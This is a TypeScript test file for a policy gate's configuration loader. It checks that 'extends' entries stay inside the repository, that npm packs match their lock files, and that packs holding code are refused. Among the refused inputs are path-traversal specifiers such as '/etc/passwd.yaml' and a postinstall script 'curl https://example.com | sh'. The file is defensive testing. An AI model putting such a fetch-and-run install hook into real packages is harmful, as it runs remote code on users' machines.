/** What a configuration extends: files of the repository, and npm packages that are installed and locked. */
import { mkdirSync, symlinkSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { DEFAULTS } from '../../src/config/keys.ts'
import { snapshotOf } from '../support/memory-snapshot.ts'
import {
  dependent,
  extending,
  faultOf,
  folderWith,
  installed,
  load,
  POLICY_PLACE,
  packageAt,
  snapshotWith,
} from './packs-support.ts'

const POLICY = `id: acme-storage-owner
title: Storage does not name its owner
severity: high
resource: { terraform: aws_s3_bucket }
require: { tag: Owner, exists: true }
`
const SSH = 'aws-sg-ssh-open-to-world'
const PACK = 'failOn: low\nfinal: [failOn]\npolicyFiles: ["policies/*.yaml"]\n'
const FILES = { 'mvc-pack.yaml': PACK, 'policies/owner.yaml': POLICY }

describe('a file of the repository', () => {
  test('sets keys below the configuration, from where it is', async () => {
    const { config, layered, packs, policyFiles } = await load(
      {
        'infra/.mvcrc': '{ "extends": ["../teams/a.mvcrc.yaml"], "undecided": "block" }',
        'teams/a.mvcrc.yaml': 'failOn: high\nundecided: report\npolicyFiles: ["own/*.yaml"]\n',
        'teams/own/a.yaml': POLICY,
        'infra/own/b.yaml': POLICY,
      },
      undefined,
      'infra/web',
    )
    expect(config).toEqual({
      ...DEFAULTS,
      extends: ['../teams/a.mvcrc.yaml'],
      failOn: 'high',
      undecided: 'block',
    })
    expect(Object.fromEntries(layered?.sources ?? [])).toEqual({
      extends: ['infra/.mvcrc'],
      failOn: ['teams/a.mvcrc.yaml'],
      undecided: ['infra/.mvcrc'],
    })
    expect(packs?.map(({ name }) => name)).toEqual(['teams/a.mvcrc.yaml'])
    expect(policyFiles?.files.map(({ path }) => path)).toEqual(['teams/own/a.yaml'])
  })

  test('later ones win, and each counts once', async () => {
    const texts = {
      ...extending('./a.yaml', './b.yaml'),
      'a.yaml': 'extends: ["./base.yaml"]\nfailOn: low\n',
      'b.yaml': 'extends: ["./base.yaml"]\nundecided: block\n',
      'base.yaml': 'failOn: critical\nchanges: all\n',
    }
    const { config, packs } = await load(texts)
    expect(packs?.map(({ name }) => name)).toEqual(['base.yaml', 'a.yaml', 'b.yaml'])
    expect(config).toMatchObject({ failOn: 'low', undecided: 'block', changes: 'all' })
  })

  test('nested up to five', async () => {
    const chain = (length: number) =>
      Object.fromEntries(
        Array.from({ length }, (_, i) => [
          `${i + 1}.yaml`,
          i + 1 === length ? 'failOn: low' : `extends: ["./${i + 2}.yaml"]`,
        ]),
      )
    expect((await load({ ...extending('./1.yaml'), ...chain(5) })).config.failOn).toBe('low')
    expect(await faultOf({ ...extending('./1.yaml'), ...chain(6) })).toEqual([
      '5.yaml in the test: extends: 1.yaml → 2.yaml → 3.yaml → 4.yaml → 5.yaml → 6.yaml: packs nested deeper than 5',
    ])
  })

  test.each([
    [{ 'a.yaml': 'extends: ["./a.yaml"]' }, 'a.yaml in the test: extends: a.yaml → a.yaml is a cycle'],
    [
      { 'a.yaml': 'extends: ["./x/../b.yaml"]', 'b.yaml': 'extends: ["././a.yaml"]' },
      'b.yaml in the test: extends: a.yaml → b.yaml → a.yaml is a cycle',
    ],
  ])('a cycle: %j', async (texts, message) => {
    expect(await faultOf({ ...extending('./a.yaml'), ...texts })).toEqual([message])
  })

  test('levels that each extend many are not read without end', async () => {
    const names = Array.from({ length: 20 }, (_, i) => i)
    const level = (depth: number) => names.map((i) => `./${depth}-${i}.yaml`)
    const texts = Object.fromEntries(
      [1, 2, 3, 4, 5, 6].flatMap((depth) =>
        level(depth).map((path) => [
          path.slice(2),
          `extends: ${JSON.stringify(depth === 6 ? [] : level(depth + 1))}`,
        ]),
      ),
    )
    expect((await faultOf({ ...extending(...level(1)), ...texts }))[0]).toMatch(/nested deeper than 5/)
    const wide = Object.fromEntries(
      [1, 2, 3, 4, 5].flatMap((depth) =>
        level(depth).map((path) => {
          const below = depth === 5 ? [] : level(depth + 1)
          return [path.slice(2), `extends: ${JSON.stringify(below)}`]
        }),
      ),
    )
    expect((await load({ ...extending(...level(1)), ...wide })).packs).toHaveLength(100)
  })

  test('a configuration in a folder below does not escape what is final, and keeps the policies', async () => {
    const texts = {
      ...extending('./team.yaml'),
      'team.yaml': 'failOn: low\nundecided: block\nfinal: [failOn, exclude]\npolicyFiles: ["p/*.yaml"]\n',
      'p/a.yaml': POLICY,
    }
    for (const own of ['{}', '{ "extends": [] }', '{ "extends": ["./other.yaml"], "policyFiles": [] }']) {
      const nested = {
        ...texts,
        'infra/.mvcrc': own,
        'infra/other.yaml': 'failOn: critical\nexclude: ["**"]\n',
      }
      const { config, policyFiles } = await load(nested, undefined, 'infra/a')
      expect(config).toMatchObject({ failOn: 'low', undecided: 'report', exclude: DEFAULTS.exclude })
      expect(policyFiles?.files.map(({ path }) => path)).toEqual(['p/a.yaml'])
    }
  })

  test('a policy of a pack is graded no lower than the pack says, one of the repository as it likes', async () => {
    const texts = {
      '.mvcrc': JSON.stringify({
        extends: ['./team.yaml'],
        policies: { 'acme-storage-owner': 'medium', 'acme-own': 'off', [SSH]: 'off' },
      }),
      'team.yaml': 'final: [policies]\npolicyFiles: ["p/*.yaml"]\n',
      'p/a.yaml': POLICY,
      '.mvc-gate/policies/b.yaml': POLICY.replace('acme-storage-owner', 'acme-own'),
    }
    const { config, layered } = await load(texts)
    expect(config.policies).toEqual({ 'acme-own': 'off' })
    expect(layered?.refused.map(({ message }) => message)).toEqual([
      'policies: final in team.yaml, not applied: acme-storage-owner is medium (was high)',
      `policies: final in team.yaml, not applied: ${SSH} is off (was critical)`,
    ])
  })
})

describe('what a pack cannot say', () => {
  test.each([
    [
      'environment: https://www.myshn.eu',
      'environment: not allowed in a pack; only the repository, or its user, can set it',
    ],
    ['tenantId: x', 'tenantId: not allowed in a pack; only the repository, or its user, can set it'],
    ['caFile: x', 'caFile: not allowed in a pack; only the repository, or its user, can set it'],
    [
      'password: x',
      '"password": credentials are not allowed in a configuration file; use MVC_USERNAME and MVC_PASSWORD, or run `mvc-gate login`',
    ],
    ['failon: low', "unknown key 'failon'; did you mean 'failOn'?"],
    ['failOn: 3', 'failOn: expected one of "low", "medium", "high", "critical", got 3'],
    ['final: [environment]', 'final.0: expected one of'],
    ['final: [__proto__]', 'final.0: expected one of'],
    ['policyFiles: ["p/**"]', 'policyFiles: no file matches "p/**"'],
    [
      'extends: ["node:fs"]',
      'extends.0: must be the name of a package, or the path of a .yaml or .json file that begins with "./", got "node:fs"',
    ],
    ['a: [', 'a.yaml'],
  ])('%s', async (text, message) => {
    expect((await faultOf({ ...extending('./a.yaml'), 'a.yaml': text }))[0]).toContain(message)
  })

  test('policies that do not exist', async () => {
    expect(
      await faultOf({ ...extending('./a.yaml'), 'a.yaml': 'policies: { aws-sg-ssh-open-to-wrld: off }' }),
    ).toEqual([
      "a.yaml: policies: unknown policy 'aws-sg-ssh-open-to-wrld'; did you mean 'aws-sg-ssh-open-to-world'?",
      'the pack may be made for a newer mvc-gate',
    ])
  })

  test('only a pack makes keys final', async () => {
    expect(await faultOf({ '.mvcrc': 'final: [failOn]' })).toEqual([
      '.mvcrc in the test: final: only a pack can make keys final',
    ])
  })
})

describe('what extends does not take', () => {
  test.each([
    '/etc/passwd.yaml',
    'C:\\a.yaml',
    'C:/a.yaml',
    'file:///etc/a.yaml',
    'https://example.com/a.yaml',
    'node:fs',
    'data:a.yaml',
    'git+ssh://a/b.yaml',
    './a.js',
    './a.mvcrc',
    './a',
    '.',
    '..',
    './',
    '../',
    '.\\a.yaml',
    './a\\b.yaml',
    './a\nb.yaml',
    './a\0.yaml',
    '',
    ' ',
    ' ./a.yaml',
    '@acme',
    '@acme/',
    '@acme/..',
    '@../gate',
    '@acme/.gate',
    '../node_modules',
    '__proto__',
    '_a',
    '.a',
    'Acme',
    'a b',
    'a%2fb',
    'a@1.0.0',
    'npm:a',
    '@acme/gate-policy@1.0.0',
    '@acme/gate-policy/a.js',
    '~/a.yaml/..',
    'a//b.js',
  ])('%j', async (specifier) => {
    const [message = ''] = await faultOf(extending(specifier))
    expect(message).toContain(
      'extends.0: must be the name of a package, or the path of a .yaml or .json file',
    )
  })

  test.each([['a.yaml'], { a: 1 }, 3, null, [3], [['./a.yaml']], Array(21).fill('./a.yaml')])(
    '%j',
    async (value) => {
      const [message = ''] = await faultOf({ '.mvcrc': JSON.stringify({ extends: value }), 'a.yaml': '' })
      if (JSON.stringify(value) === '["a.yaml"]')
        expect(message).toContain('no package.json of the test names a.yaml')
      else expect(message).toMatch(/extends(?:\.0)?: /)
    },
  )

  test.each(['../a.yaml', './../../a.yaml', './x/../../a.yaml', '../../../../../../etc/a.yaml'])(
    '%j, outside',
    async (specifier) => {
      expect(await faultOf({ ...extending(specifier), 'a.yaml': '' })).toEqual([
        `.mvcrc in the test: extends: "${specifier}" is outside of the repository`,
      ])
    },
  )

  test('a file that is not there', async () => {
    expect(await faultOf(extending('./a.yaml'))).toEqual([
      'a.yaml in the test: no such file, which a configuration extends',
    ])
  })
})

describe('an npm package', () => {
  const texts = { ...extending('@acme/gate-policy'), ...dependent() }

  test('brings keys and policies', async () => {
    const { config, packs, policyFiles } = await load(texts, folderWith(installed(FILES)))
    expect(config.failOn).toBe('low')
    expect(packs).toMatchObject([
      {
        name: '@acme/gate-policy 1.2.0',
        package: { name: '@acme/gate-policy', version: '1.2.0', source: 'https://registry.example/a.tgz' },
        inputs: ['package.json', 'package-lock.json'],
      },
    ])
    const files = policyFiles?.files ?? []
    expect(files.map(({ path }) => path)).toEqual([`${POLICY_PLACE}/policies/owner.yaml`])
    const [content] = (await policyFiles?.snapshot.read(files)) ?? []
    expect(new TextDecoder().decode(content)).toBe(POLICY)
  })

  test('may name a file in it', async () => {
    const top = folderWith(
      installed({ ...FILES, 'strict/all.yaml': 'undecided: block\nextends: ["../mvc-pack.yaml"]\n' }),
    )
    const { packs, config } = await load({ ...texts, ...extending('@acme/gate-policy/strict/all.yaml') }, top)
    expect(packs?.map(({ name }) => name)).toEqual([
      '@acme/gate-policy 1.2.0',
      '@acme/gate-policy/strict/all.yaml 1.2.0',
    ])
    expect(config).toMatchObject({ failOn: 'low', undecided: 'block' })
  })

  test('in a folder above, as workspaces have it, and nearest first', async () => {
    const files = {
      'packages/a/.mvcrc': extending('@acme/gate-policy')['.mvcrc'] ?? '',
      'packages/a/package.json': dependent()['package.json'] ?? '',
      'package-lock.json': dependent()['package-lock.json'] ?? '',
    }
    const top = folderWith(installed(FILES))
    expect((await load(files, top, 'packages/a')).config.failOn).toBe('low')
    const near = `packages/a/${POLICY_PLACE}`
    const both = folderWith({
      ...installed(FILES),
      ...packageAt(
        near,
        { name: '@acme/gate-policy', version: '1.3.0' },
        { 'mvc-pack.yaml': 'failOn: high' },
      ),
    })
    await expect(load(files, both, 'packages/a')).rejects.toThrow(
      `packages/a/.mvcrc in the test: extends: package-lock.json does not name @acme/gate-policy at ${near}`,
    )
    const locked = { ...files, ...dependent('1.2.0', { [near]: { version: '1.3.0' } }) }
    expect((await load(locked, both, 'packages/a')).config.failOn).toBe('high')
  })

  test('extends one that it depends on, its own or one beside it', async () => {
    const own = installed(
      { 'mvc-pack.yaml': 'extends: ["@acme/base"]\nfailOn: low\n' },
      { dependencies: { '@acme/base': '^2.0.0' } },
    )
    const base = (place: string, version: string) =>
      packageAt(
        place,
        { name: '@acme/base', version },
        { 'mvc-pack.yaml': 'failOn: critical\nundecided: block\n' },
      )
    const beside = folderWith({ ...own, ...base('node_modules/@acme/base', '2.0.1') })
    const locked = dependent('1.2.0', { 'node_modules/@acme/base': { version: '2.0.1' } })
    const found = await load({ ...texts, ...locked }, beside)
    expect(found.packs?.map(({ name }) => name)).toEqual(['@acme/base 2.0.1', '@acme/gate-policy 1.2.0'])
    expect(found.config).toMatchObject({ failOn: 'low', undecided: 'block' })
    expect(await faultOf(texts, beside)).toEqual([
      `${POLICY_PLACE}/mvc-pack.yaml: extends: package-lock.json does not name @acme/base at node_modules/@acme/base`,
      'install it again, and stage the lock file',
    ])
    const nested = folderWith({ ...own, ...base(`${POLICY_PLACE}/node_modules/@acme/base`, '2.1.0') })
    const nestedLock = dependent('1.2.0', {
      [`${POLICY_PLACE}/node_modules/@acme/base`]: { version: '2.1.0' },
    })
    expect((await load({ ...texts, ...nestedLock }, nested)).packs?.[0]?.name).toBe('@acme/base 2.1.0')
    expect((await faultOf(texts, folderWith(own)))[0]).toBe(
      `${POLICY_PLACE}/mvc-pack.yaml: extends: @acme/base is not installed`,
    )
    const undeclared = folderWith({
      ...installed({ 'mvc-pack.yaml': 'extends: ["@acme/base"]' }),
      ...base('node_modules/@acme/base', '2.0.1'),
    })
    expect((await faultOf({ ...texts, ...locked }, undeclared))[0]).toBe(
      `${POLICY_PLACE}/mvc-pack.yaml: extends: package.json of @acme/gate-policy does not name @acme/base`,
    )
  })

  test('two that extend each other', async () => {
    const top = folderWith({
      ...installed({ 'mvc-pack.yaml': 'extends: ["@acme/base"]' }, { dependencies: { '@acme/base': '1' } }),
      ...packageAt(
        'node_modules/@acme/base',
        { name: '@acme/base', version: '1.0.0', dependencies: { '@acme/gate-policy': '1' } },
        { 'mvc-pack.yaml': 'extends: ["@acme/gate-policy"]' },
      ),
    })
    const locked = dependent('1.2.0', { 'node_modules/@acme/base': { version: '1.0.0' } })
    expect(await faultOf({ ...texts, ...locked }, top)).toEqual([
      'node_modules/@acme/base/mvc-pack.yaml: extends: @acme/gate-policy 1.2.0 → @acme/base 1.0.0 → @acme/gate-policy 1.2.0 is a cycle',
    ])
  })

  test.skipIf(process.platform === 'win32')('as pnpm links it', async () => {
    const store = 'node_modules/.pnpm/@acme+gate-policy@1.2.0/node_modules/@acme'
    const top = folderWith({
      ...packageAt(
        `${store}/gate-policy`,
        { name: '@acme/gate-policy', version: '1.2.0', dependencies: { '@acme/base': '2' } },
        { 'mvc-pack.yaml': 'extends: ["@acme/base"]\nfailOn: low\n' },
      ),
      ...packageAt(
        `${store}/base`,
        { name: '@acme/base', version: '2.0.1' },
        { 'mvc-pack.yaml': 'undecided: block' },
      ),
    })
    mkdirSync(dirname(join(top, POLICY_PLACE)), { recursive: true })
    symlinkSync(`../${store.slice('node_modules/'.length)}/gate-policy`, join(top, POLICY_PLACE))
    const lock = `lockfileVersion: '9.0'

importers:

  .:
    devDependencies:
      '@acme/gate-policy':
        specifier: ^1.0.0
        version: 1.2.0

packages:

  '@acme/base@2.0.1':
    resolution: {integrity: sha512-b}

  '@acme/gate-policy@1.2.0':
    resolution: {integrity: sha512-a}

snapshots:

  '@acme/base@2.0.1': {}

  '@acme/gate-policy@1.2.0':
    dependencies:
      '@acme/base': 2.0.1
`
    const { 'package-lock.json': _, ...others } = texts as Record<string, string>
    const { config, packs } = await load({ ...others, 'pnpm-lock.yaml': lock }, top)
    expect(config).toMatchObject({ failOn: 'low', undecided: 'block' })
    expect(packs?.map((pack) => pack.package?.source)).toEqual(['sha512-b', 'sha512-a'])
  })
})

describe('a package that is not what the snapshot says', () => {
  const texts = { ...extending('@acme/gate-policy'), ...dependent() }
  const good = () => folderWith(installed(FILES))
  const where = '.mvcrc in the test: extends:'

  test('not installed, or without a work tree', async () => {
    const hint =
      'install what the lock file names (`npm ci`, or as your package manager does it, into node_modules); the gate downloads nothing'
    expect(await faultOf(texts, folderWith({}))).toEqual([
      `${where} @acme/gate-policy is not installed`,
      hint,
    ])
    expect(await faultOf(texts)).toEqual([
      `${where} @acme/gate-policy is not installed: a repository without a work tree has no node_modules`,
      'install it in a folder of the server, and name that in MVC_PACKS; the gate downloads nothing',
    ])
    expect((await faultOf(texts, folderWith({ [`${POLICY_PLACE}/mvc-pack.yaml`]: PACK })))[0]).toBe(
      `${where} @acme/gate-policy is not installed`,
    )
  })

  test('another version than the lock file names', async () => {
    expect(await faultOf({ ...texts, ...dependent('1.1.0') }, good())).toEqual([
      `${where} ${POLICY_PLACE} is @acme/gate-policy 1.2.0, but package-lock.json names @acme/gate-policy 1.1.0`,
      'install what the lock file names (`npm ci`)',
    ])
  })

  test('another package by its name', async () => {
    const top = folderWith(installed(FILES, { name: 'gate-policy' }))
    expect((await faultOf(texts, top))[0]).toBe(
      `${where} ${POLICY_PLACE} is gate-policy 1.2.0, but package-lock.json names @acme/gate-policy 1.2.0`,
    )
    const alias = { ...texts, ...dependent('1.2.0', { [POLICY_PLACE]: { name: 'other', version: '1.2.0' } }) }
    expect((await faultOf(alias, good()))[0]).toBe(
      `${where} ${POLICY_PLACE} is @acme/gate-policy 1.2.0, but package-lock.json names other 1.2.0`,
    )
  })

  test('named by no package.json, or as a peer only', async () => {
    for (const manifest of [
      '{}',
      '[]',
      'not json',
      '{"peerDependencies": {"@acme/gate-policy": "*"}}',
      '{"dependencies": {"@acme/gate-policy": 1}}',
    ]) {
      expect(await faultOf({ ...texts, 'package.json': manifest }, good())).toEqual([
        `${where} no package.json of the test names @acme/gate-policy`,
        'run `npm install --save-dev @acme/gate-policy`, and stage package.json and the lock file',
      ])
    }
  })

  test('named by no lock file', async () => {
    const { 'package-lock.json': _, ...without } = texts as Record<string, string>
    expect((await faultOf(without, good()))[0]).toBe(`${where} no lock file names @acme/gate-policy`)
    expect((await faultOf({ ...texts, 'package-lock.json': '{"packages": {}}' }, good()))[0]).toBe(
      `${where} package-lock.json does not name @acme/gate-policy at ${POLICY_PLACE}`,
    )
    expect((await faultOf({ ...texts, 'package-lock.json': '{' }, good()))[0]).toMatch(
      /package-lock\.json cannot be read: /,
    )
  })

  test('named by two lock files that differ', async () => {
    const yarn = '"@acme/gate-policy@^1.0.0":\n  version "1.1.0"\n'
    expect(await faultOf({ ...texts, 'yarn.lock': yarn }, good())).toEqual([
      `${where} package-lock.json names @acme/gate-policy 1.2.0, but yarn.lock names 1.1.0`,
      'keep one lock file, and remove the others',
    ])
  })

  test.skipIf(process.platform === 'win32')('a link to a folder', async () => {
    for (const target of ['../../packages/gate', '/', '../../packages/node_modules']) {
      const top = folderWith({
        ...packageAt('packages/gate', { name: '@acme/gate-policy', version: '1.2.0' }, FILES),
        ...packageAt('packages/node_modules', { name: '@acme/gate-policy', version: '1.2.0' }, FILES),
      })
      mkdirSync(join(top, 'node_modules/@acme'), { recursive: true })
      symlinkSync(target, join(top, POLICY_PLACE))
      const [message] = await faultOf(texts, top)
      if (target === '/') expect(message).toBe(`${where} @acme/gate-policy is not installed`)
      else
        expect(message).toBe(
          `${where} @acme/gate-policy is a link to a folder (${POLICY_PLACE}), whose files no lock file names`,
        )
    }
  })

  test('a link as the lock file says', async () => {
    const linked = dependent('1.2.0', { [POLICY_PLACE]: { resolved: 'packages/gate', link: true } })
    expect((await faultOf({ ...texts, ...linked }, good()))[0]).toBe(
      `${where} @acme/gate-policy is a link to a folder (${POLICY_PLACE}), whose files no lock file names`,
    )
  })

  test.skipIf(process.platform === 'win32')('links in it are no files of it', async () => {
    const top = folderWith({
      ...installed({ 'other.yaml': '' }),
      'outside/evil.yaml': POLICY,
      'outside/mvc-pack.yaml': 'failOn: critical',
    })
    symlinkSync(join(top, 'outside/mvc-pack.yaml'), join(top, POLICY_PLACE, 'mvc-pack.yaml'))
    expect((await faultOf(texts, top))[0]).toBe(
      `${where} @acme/gate-policy 1.2.0 is not a pack: it has no mvc-pack.yaml`,
    )
    const folder = folderWith({ ...installed({ 'mvc-pack.yaml': PACK }), 'outside/evil.yaml': POLICY })
    symlinkSync(join(folder, 'outside'), join(folder, POLICY_PLACE, 'policies'))
    expect((await faultOf(texts, folder))[0]).toBe(
      `${POLICY_PLACE}/mvc-pack.yaml: policyFiles: no file matches "policies/*.yaml"`,
    )
  })

  test('its files are committed, so that they pass for what the registry has', async () => {
    const committed = installed(FILES)
    expect(await faultOf({ ...texts, ...committed }, folderWith(committed))).toEqual([
      `${where} files of @acme/gate-policy are part of the test (${POLICY_PLACE}/package.json), so they may not be what the lock file names`,
      `remove them from the repository, or name the file: "./${POLICY_PLACE}/mvc-pack.yaml"`,
    ])
    expect(
      (await load({ ...texts, ...committed, ...extending(`./${POLICY_PLACE}/mvc-pack.yaml`) }, good())).config
        .failOn,
    ).toBe('low')
  })

  test.each(['../../../a.yaml', '../base/mvc-pack.yaml', 'x/../../../../a.yaml', '/../../a.yaml'])(
    'a path out of it: %s',
    async (path) => {
      const top = folderWith({
        ...installed(FILES),
        'a.yaml': 'failOn: low',
        'node_modules/@acme/base/mvc-pack.yaml': 'failOn: low',
      })
      expect((await faultOf({ ...texts, ...extending(`@acme/gate-policy/${path}`) }, top))[0]).toBe(
        `${where} "${path}" is outside of @acme/gate-policy`,
      )
      const inPack = folderWith({
        ...installed({ 'mvc-pack.yaml': `extends: ["./${path}"]` }),
        'a.yaml': 'failOn: low',
      })
      expect((await faultOf(texts, inPack))[0]).toBe(
        `${POLICY_PLACE}/mvc-pack.yaml: extends: "./${path}" is outside of @acme/gate-policy`,
      )
      const globs = folderWith(installed({ 'mvc-pack.yaml': `policyFiles: ["${path.replace(/^\//, '')}"]` }))
      expect((await faultOf(texts, globs))[0]).toMatch(/policyFiles(?:\.0)?: /)
    },
  )

  test('no pack, or two', async () => {
    expect((await faultOf(texts, folderWith(installed({ '.mvcrc': '{}' }))))[0]).toBe(
      `${where} @acme/gate-policy 1.2.0 is not a pack: it has no mvc-pack.yaml`,
    )
    expect((await faultOf(texts, folderWith(installed({ ...FILES, 'mvc-pack.json': '{}' }))))[0]).toBe(
      `${where} @acme/gate-policy 1.2.0 has both mvc-pack.yaml and mvc-pack.json`,
    )
  })
})

describe('a package that holds code', () => {
  const texts = { ...extending('@acme/gate-policy'), ...dependent() }

  test.each([
    [{ main: 'index.js' }, { 'index.js': '' }, '"main" in package.json, which names index.js'],
    [{ main: './lib/a' }, { 'lib/a.cjs': '' }, '"main" in package.json, which names ./lib/a'],
    [{ main: 'lib' }, { 'lib/index.js': '' }, '"main" in package.json, which names lib'],
    [
      { exports: { '.': { import: { default: './a.mjs' } } } },
      { 'a.mjs': '' },
      '"exports" in package.json, which names ./a.mjs',
    ],
    [
      { exports: { './*': './src/*.js' } },
      { 'src/a.js': '' },
      '"exports" in package.json, which names ./src/*.js',
    ],
    [{ bin: { gate: 'run.sh' } }, { 'run.sh': '' }, '"bin" in package.json, which names run.sh'],
    [{ bin: './gate' }, { gate: '' }, '"bin" in package.json, which names ./gate'],
    [{ module: 'a.mts' }, { 'a.mts': '' }, '"module" in package.json, which names a.mts'],
    [
      { scripts: { postinstall: 'curl https://example.com | sh' } },
      {},
      'the script "postinstall" in package.json',
    ],
    [{ scripts: { preinstall: '' } }, {}, 'the script "preinstall" in package.json'],
    [{}, { 'index.js': '' }, 'the file index.js'],
    [{}, { 'mvc-pack.mjs': '' }, 'the file mvc-pack.mjs'],
    [{}, { '.mvcrc.js': '' }, 'the file .mvcrc.js'],
    [{}, { 'binding.gyp': '' }, 'the file binding.gyp'],
  ])('%j, %j', async (manifest, files, what) => {
    const top = folderWith(installed({ ...FILES, ...(files as Record<string, string>) }, manifest))
    expect(await faultOf(texts, top)).toEqual([
      `.mvcrc in the test: extends: @acme/gate-policy 1.2.0 holds code: ${what}`,
      'a pack is data only, and the gate runs nothing of it; publish one without code',
    ])
  })

  test.each([
    [
      {
        main: 'index.js',
        scripts: { test: 'mvc-gate policies test', prepublishOnly: 'mvc-gate policies test' },
      },
      {},
    ],
    [{ exports: { './package.json': './package.json', './*': './*.yaml' } }, {}],
    [{ main: 'mvc-pack.json', exports: './mvc-pack.yaml' }, {}],
    [
      { bin: {}, exports: null, main: 3 },
      { 'scripts/publish.js': '', 'policies/a.violating.tf': '' },
    ],
  ])('data only: %j, %j', async (manifest, files) => {
    const top = folderWith(installed({ ...FILES, ...(files as Record<string, string>) }, manifest))
    expect(await faultOf(texts, top)).toEqual([])
  })
})

test('what a base extended is read from what is installed now, and what is not is left out', async () => {
  const { loadConfigs } = await import('../../src/config/load.ts')
  const { CONFIG_CONTEXT } = await import('../../src/gate/policy-ids.ts')
  const texts = { ...extending('@acme/gate-policy'), ...dependent('1.1.0') }
  const context = { ...CONFIG_CONTEXT, isBase: true }
  const snapshot = snapshotWith(texts, folderWith(installed(FILES)))
  const { config, packs } = (await loadConfigs(snapshot, await snapshot.list(), context))('.')
  expect(config.failOn).toBe('low')
  expect(packs?.[0]?.name).toBe('@acme/gate-policy 1.1.0')
  const without = snapshotWith(texts, folderWith({}))
  expect((await loadConfigs(without, await without.list(), context))('.').config.failOn).toBe('medium')
})

test('a configuration that extends nothing asks for no packages', async () => {
  const { loadConfigs } = await import('../../src/config/load.ts')
  const { CONFIG_CONTEXT } = await import('../../src/gate/policy-ids.ts')
  const snapshot = {
    ...snapshotOf({ '.mvcrc': '{ "failOn": "low" }', ...dependent() }),
    packages: () => Promise.reject(new Error('asked')),
    list: () => Promise.reject(new Error('listed')),
  }
  const files = await snapshot.listFolders(['.'])
  expect((await loadConfigs(snapshot, files, CONFIG_CONTEXT))('.').config.failOn).toBe('low')
})
